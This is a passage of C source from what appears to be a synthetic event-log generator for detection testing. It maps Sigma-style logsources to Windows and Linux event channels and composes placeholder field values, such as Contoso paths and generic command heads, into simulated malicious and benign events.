    { "driver-framework", 2003, "Microsoft-Windows-DriverFrameworks-UserMode/Operational",
      "Microsoft-Windows-DriverFrameworks-UserMode" },
    { "ntlm", 8001, "Microsoft-Windows-NTLM/Operational", "Microsoft-Windows-Security-Netlogon" },
    { "dhcp", 1031, "Microsoft-Windows-DHCP-Server/Operational", "Microsoft-Windows-DHCP-Server" },
    { "msexchange-management", 1, "MSExchange Management", "MSExchange CmdletLogs" },
    { "applocker", 8004, "Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-AppLocker" },
    { "printservice-admin", 808, "Microsoft-Windows-PrintService/Admin", "Microsoft-Windows-PrintService" },
    { "printservice-operational", 316, "Microsoft-Windows-PrintService/Operational",
      "Microsoft-Windows-PrintService" },
    { "codeintegrity-operational", 3033, "Microsoft-Windows-CodeIntegrity/Operational",
      "Microsoft-Windows-CodeIntegrity" },
    { "smbclient-security", 31017, "Microsoft-Windows-SmbClient/Security", "Microsoft-Windows-SMBClient" },
    { "smbserver-connectivity", 1006, "Microsoft-Windows-SMBServer/Connectivity", "Microsoft-Windows-SMBServer" },
    { "firewall-as", 2004, "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall",
      "Microsoft-Windows-Windows Firewall With Advanced Security" },
    { "bits-client", 59, "Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client" },
    { "windefend", 1116, "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender" },
    { "terminalservices-localsessionmanager", 21,
      "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
      "Microsoft-Windows-TerminalServices-LocalSessionManager" },
    { "microsoft-servicebus-client", 1, "Microsoft-ServiceBus-Client", "Microsoft-ServiceBus-Client" },
    { "ldap", 30, "Microsoft-Windows-LDAP-Client/Debug", "Microsoft-Windows-LDAP-Client" },
    { "ldap_debug", 30, "Microsoft-Windows-LDAP-Client/Debug", "Microsoft-Windows-LDAP-Client" },
    { "security-mitigations", 1, "Microsoft-Windows-Security-Mitigations/User Mode",
      "Microsoft-Windows-Security-Mitigations" },
    { "diagnosis-scripted", 101, "Microsoft-Windows-Diagnosis-Scripted/Operational",
      "Microsoft-Windows-Diagnosis-Scripted" },
    { "shell-core", 9707, "Microsoft-Windows-Shell-Core/Operational", "Microsoft-Windows-Shell-Core" },
    { "openssh", 4, "OpenSSH/Operational", "OpenSSH" },
    { "bitlocker", 845, "Microsoft-Windows-BitLocker/BitLocker Management", "Microsoft-Windows-BitLocker-API" },
    { "vhdmp", 1, "Microsoft-Windows-VHDMP/Operational", "Microsoft-Windows-VHDMP" },
    { "appxdeployment-server", 400, "Microsoft-Windows-AppXDeploymentServer/Operational",
      "Microsoft-Windows-AppXDeployment-Server" },
    { "lsa-server", 6038, "Microsoft-Windows-LSA/Operational", "Microsoft-Windows-LSA" },
    { "appxpackaging-om", 157, "Microsoft-Windows-AppxPackaging/Operational", "Microsoft-Windows-AppxPackagingOM" },
    { "dns-client", 3008, "Microsoft-Windows-DNS Client Events/Operational", "Microsoft-Windows-DNS-Client" },
    { "appmodel-runtime", 201, "Microsoft-Windows-AppModel-Runtime/Admin", "Microsoft-Windows-AppModel-Runtime" },
    { "capi2", 70, "Microsoft-Windows-CAPI2/Operational", "Microsoft-Windows-CAPI2" },
    { "certificateservicesclient-lifecycle-system", 1006,
      "Microsoft-Windows-CertificateServicesClient-Lifecycle-System/Operational",
      "Microsoft-Windows-CertificateServicesClient-Lifecycle-System" },
    { "iis-configuration", 29, "Microsoft-IIS-Configuration/Operational", "Microsoft-IIS-Configuration" },
};

/* Sysmon for Linux categories (auditd and journald are services). */
static const struct { const char *name; int kind; } lcats[] = {
    { "process_creation", 1 }, { "network_connection", 3 }, { "sysmon_status", 4 },
    { "process_termination", 5 }, { "raw_access_thread", 9 }, { "file_event", 11 },
    { "file_delete", 23 },
};

/* The value of key in a logsource text ("product=windows category=x"),
 * into out; "" when absent. */
static void ls_value(const char *ls, const char *key, char *out, size_t size)
{
    size_t kl = strlen(key);

    out[0] = '\0';
    while (ls && *ls) {
        const char *end = strchr(ls, ' ');
        size_t n = end ? (size_t)(end - ls) : strlen(ls);

        if (n > kl && strncmp(ls, key, kl) == 0 && ls[kl] == '=') {
            snprintf(out, size, "%.*s", (int)(n - kl - 1), ls + kl + 1);
            return;
        }
        ls += n + (end != NULL);
    }
}

static const struct wsource *wsource_find(const char *logsource)
{
    char cat[64], svc[64];
    size_t i;

    ls_value(logsource, "category", cat, sizeof(cat));
    ls_value(logsource, "service", svc, sizeof(svc));
    for (i = 0; cat[0] && i < N(wcats); i++)
        if (strcasecmp(cat, wcats[i].name) == 0)
            return &wcats[i];
    for (i = 0; svc[0] && !cat[0] && i < N(wsvcs); i++)
        if (strcasecmp(svc, wsvcs[i].name) == 0)
            return &wsvcs[i];
    return NULL;
}

/* Linux: > 0 a Sysmon EventID, -1 auditd, -2 journald, 0 none. */
static int lkind_find(const char *logsource)
{
    char cat[64], svc[64];
    size_t i;

    ls_value(logsource, "category", cat, sizeof(cat));
    ls_value(logsource, "service", svc, sizeof(svc));
    for (i = 0; cat[0] && i < N(lcats); i++)
        if (strcasecmp(cat, lcats[i].name) == 0)
            return lcats[i].kind;
    if (cat[0])
        return 0;
    if (svc[0])
        return strcasecmp(svc, "auditd") == 0 ? -1 : -2;
    return 1;
}

int kta_gen_fits(enum kta_gen_schema schema, const char *logsource)
{
    char product[64], cat[64], svc[64];

    ls_value(logsource, "product", product, sizeof(product));
    ls_value(logsource, "category", cat, sizeof(cat));
    ls_value(logsource, "service", svc, sizeof(svc));
    switch (schema) {
    case KTA_GEN_SYSMON:
        return strcasecmp(product, "windows") == 0 &&
               ((!cat[0] && !svc[0]) || wsource_find(logsource) != NULL);
    case KTA_GEN_LINUX:
        return strcasecmp(product, "linux") == 0 && lkind_find(logsource) != 0;
    default:
        return 0;
    }
}

/* How values of a field are dressed: as a path (harmless directory before,
 * file name after), a registry key, a command line, or bare text. */
enum fclass { FC_TEXT, FC_CMD, FC_PATH, FC_REG };

static int ends_with_ci(const char *s, const char *suffix)
{
    size_t n = strlen(s), m = strlen(suffix);

    return n >= m && strcasecmp(s + n - m, suffix) == 0;
}

static enum fclass field_class(const char *name)
{
    static const char *const paths[] = { "image", "imageloaded", "filename", "path", "directory",
                                         "processname", "exe", "cwd", "ImagePath" };

    if (!name)
        return FC_TEXT;
    if (strcmp(name, "TargetObject") == 0 || strcmp(name, "NewName") == 0)
        return FC_REG;
    if (ends_with_ci(name, "CommandLine") || strcmp(name, "ScriptBlockText") == 0 ||
        strcmp(name, "Payload") == 0 || strcmp(name, "proctitle") == 0)
        return FC_CMD;
    if (strcmp(name, "name") == 0)
        return FC_PATH;
    for (size_t i = 0; i < N(paths); i++)
        if (ends_with_ci(name, paths[i]))
            return FC_PATH;
    return FC_TEXT;
}

/* The value being composed (bounded; too long: the field is dropped). */
struct vbuf {
    char   *p;
    size_t  n, cap;
    int     over;
    char    sep;
};

static int is_sep(char c, char sep)
{
    return c == sep || (sep != ' ' && (c == '\\' || c == '/'));
}

static void vb_add(struct vbuf *b, const char *s, size_t n)
{
    if (b->n + n + 1 > b->cap) {
        b->over = 1;
        return;
    }
    memcpy(b->p + b->n, s, n);
    b->n += n;
    b->p[b->n] = '\0';
}

/* Appends s, with the class's separator unless one side has it already. */
static void vb_join(struct vbuf *b, const char *s)
{
    if (!*s)
        return;
    /* a piece ending in a separator, the next starting with it: one serves both */
    if (b->n && is_sep(s[0], b->sep) && b->p[b->n - 1] == s[0])
        s++;
    if (b->n && !is_sep(b->p[b->n - 1], b->sep) && !is_sep(s[0], b->sep))
        vb_add(b, &b->sep, 1);
    vb_add(b, s, strlen(s));
}

/* The value of field fields[i] (and of every later field of that name)
 * into b. */
static void compose(struct kta_gen *g, const struct kta_gen_rule *r, size_t i, struct vbuf *b)
{
    static const char *const win_dirs[] = { "C:\\Users\\Public\\Downloads", "C:\\ProgramData\\Contoso",
                                            "C:\\Windows\\Temp", "C:\\Users\\Public\\Documents" };
    static const char *const lin_dirs[] = { "/tmp/.cache", "/var/tmp", "/home/deploy", "/opt/tools" };
    static const char *const win_files[] = { "svcupdate.exe", "tmp4f2a.exe", "setup.exe" };
    static const char *const lin_files[] = { "run.sh", "update", "x" };
    static const char *const win_heads[] = { "\"C:\\Program Files\\Contoso\\agent.exe\"", "task.exe" };
    static const char *const lin_heads[] = { "sh -c", "/usr/bin/env" };
    static const char *const tails[] = { "/log:1", "--verbose", "-q" };
    const char *name = r->fields[i].name, *exact = NULL, *prefix = NULL, *suffix = NULL;
    const char *head = "", *tail = "";
    int linux = g->schema == KTA_GEN_LINUX;
    enum fclass fc = field_class(name);

    for (size_t j = i; j < r->nfields; j++) {
        const struct kta_gen_field *f = &r->fields[j];

        if (!(f->name == name || (f->name && name && strcmp(f->name, name) == 0)))
            continue;
        if (f->shape == KTA_GEN_EXACT && !exact)
            exact = f->value;
        else if (f->shape == KTA_GEN_PREFIX && !prefix)
            prefix = f->value;
        else if (f->shape == KTA_GEN_SUFFIX && !suffix)
            suffix = f->value;
    }
    b->n = 0;
    b->over = 0;
    b->p[0] = '\0';
    if (exact) {
        vb_add(b, exact, strlen(exact));
        return;
    }
    if (fc == FC_TEXT)
        /* a field of no known kind holding a path piece is dressed as a path */
        for (size_t j = i; j < r->nfields; j++) {
            const struct kta_gen_field *f = &r->fields[j];

            if ((f->name == name || (f->name && name && strcmp(f->name, name) == 0)) &&
                strchr(f->value, linux ? '/' : '\\'))
                fc = FC_PATH;
        }
    b->sep = fc == FC_PATH || fc == FC_REG ? (linux ? '/' : '\\') : ' ';
    switch (fc) {
    case FC_PATH:
        head = linux ? lin_dirs[pick(g, N(lin_dirs))] : win_dirs[pick(g, N(win_dirs))];
        tail = linux ? lin_files[pick(g, N(lin_files))] : win_files[pick(g, N(win_files))];
        break;
    case FC_REG:
        head = pick(g, 2) ? "HKLM\\SOFTWARE\\Contoso" :
               "HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Contoso";
        tail = "Settings";
        break;
    case FC_CMD:
        head = linux ? lin_heads[pick(g, N(lin_heads))] : win_heads[pick(g, N(win_heads))];
        tail = tails[pick(g, N(tails))];
        break;
    case FC_TEXT:
        break;
    }
    vb_join(b, prefix ? prefix : head);
    for (size_t j = i; j < r->nfields; j++) {
        const struct kta_gen_field *f = &r->fields[j];

        if (f->shape == KTA_GEN_CONTAINS &&
            (f->name == name || (f->name && name && strcmp(f->name, name) == 0)))
            vb_join(b, f->value);
    }
    vb_join(b, suffix ? suffix : tail);
}

/* Did an earlier field of r have the name of fields[i]? */
static int seen_before(const struct kta_gen_rule *r, size_t i)
{
    const char *name = r->fields[i].name;

    for (size_t j = 0; j < i; j++)
        if (r->fields[j].name == name || (r->fields[j].name && name && strcmp(r->fields[j].name, name) == 0))
            return 1;
    return 0;
}

/* One malicious event from the next rule. */
static void rule_event(struct kta_gen *g, struct kta_buf *out)
{
    const struct kta_gen_rule *r = &g->rules[(g->rule_start + g->nevil++ * g->rule_step) % g->nrules];
    char store[16384];
    const char *ovr[2 * 32 + 1];
    size_t novr = 0, used = 0;
    int linux = g->schema == KTA_GEN_LINUX, eventid = 0;

    for (size_t i = 0; i < r->nfields && novr < 32; i++) {
        const char *name = r->fields[i].name;
        struct vbuf b = { .p = store + used, .cap = sizeof(store) - used };

        if (seen_before(r, i) || b.cap < 2)
            continue;
        compose(g, r, i, &b);
        if (b.over)
            continue;
        if (name && strcmp(name, "EventID") == 0) {
            /* The event's own id, not a field to lay over. */
            if (r->fields[i].shape == KTA_GEN_EXACT && is_int_text(b.p) && strlen(b.p) < 7)
                eventid = (int)strtol(b.p, NULL, 10);
            continue;
        }
        ovr[2 * novr] = name ? name : linux ? "MESSAGE" : "Message";
        ovr[2 * novr + 1] = b.p;
        novr++;
        used += b.n + 1;
    }
    ovr[2 * novr] = NULL;
    if (linux) {
        int kind = lkind_find(r->logsource);
        char svc[64];

        char cat[64];

        ls_value(r->logsource, "service", svc, sizeof(svc));
        ls_value(r->logsource, "category", cat, sizeof(cat));
        if (!cat[0] && !svc[0]) {
            /* product linux alone: keywords read best in a journald
             * entry, a record type is auditd's */
            for (size_t i = 0; i < r->nfields; i++)
                if (!r->fields[i].name)
                    kind = -2;
                else if (kind != -2 && strcmp(r->fields[i].name, "type") == 0)
                    kind = -1;
        }
        if (eventid > 0 && kind > 0)
            kind = eventid;
        linux_event(g, out, &lprocs[pick(g, N(lprocs))], ovr, kind, svc);
    } else {
        const struct wsource *ws = wsource_find(r->logsource);
        static const struct wsource any = { "", 1, SYSMON_CH, NULL };

        if (!ws)
            ws = &any;
        sysmon_event(g, out, ovr, eventid ? eventid : ws->kind, ws);
    }
}

/* ---- the entry points ------------------------------------------------------ */

int kta_gen_schema(struct kta_gen *g, const char *name)
{
    static const char *const names[] = { "kta", "sysmon", "linux" };

    for (size_t i = 0; i < N(names); i++)
        if (strcmp(name, names[i]) == 0) {
            g->schema = (enum kta_gen_schema)i;
            return 0;
        }
    return -1;
}

void kta_gen_samples(struct kta_gen *g, const char *const *const *samples, size_t n)
{
    g->samples = n ? samples : NULL;
    g->nsamples = n;
}

static size_t gcd(size_t a, size_t b)
{
    while (b) {
        size_t t = a % b;

        a = b;
        b = t;
    }
    return a;
}

void kta_gen_rules(struct kta_gen *g, const struct kta_gen_rule *rules, size_t n)
{
    /* A stride coprime with n visits every rule once per n events; start
     * and stride come from the state without drawing from it, so the
     * benign events stay those of the same seed without rules. */
    uint64_t h = g->state * 0x9E3779B97F4A7C15ULL;

    g->rules = n ? rules : NULL;
    g->nrules = n;
    g->nevil = 0;
    g->rule_start = n ? (size_t)((h >> 17) % n) : 0;
    g->rule_step = n ? (size_t)((h >> 7) % n) | 1 : 1;
    while (n && gcd(g->rule_step, n) != 1)
        g->rule_step++;
}

int kta_gen_event(struct kta_gen *g, struct kta_buf *out)
{
    int evil;

    if (g->schema == KTA_GEN_KTA)
        return kta_event(g, out);
    evil = coin(g, g->malicious);
    g->n++;
    if (evil && g->nrules) {
        rule_event(g, out);
    } else if (evil && g->nsamples && pick(g, 2)) {
        const char *const *s = g->samples[pick(g, (uint32_t)g->nsamples)];

        if (g->schema == KTA_GEN_SYSMON)
            sysmon_event(g, out, s, 1, NULL);
        else
            linux_event(g, out, &lprocs[pick(g, N(lprocs))], s, 0, NULL);
    } else if (g->schema == KTA_GEN_SYSMON) {
        const struct evil *v = evil ? &wevil[pick(g, N(wevil))] : NULL;

        sysmon_event(g, out, v ? v->kv : NULL, v ? v->kind : 0, NULL);
    } else {
        linux_event(g, out, evil ? &levil[pick(g, N(levil))] : &lprocs[pick(g, N(lprocs))], NULL, 0, NULL);
    }
    return evil;
}
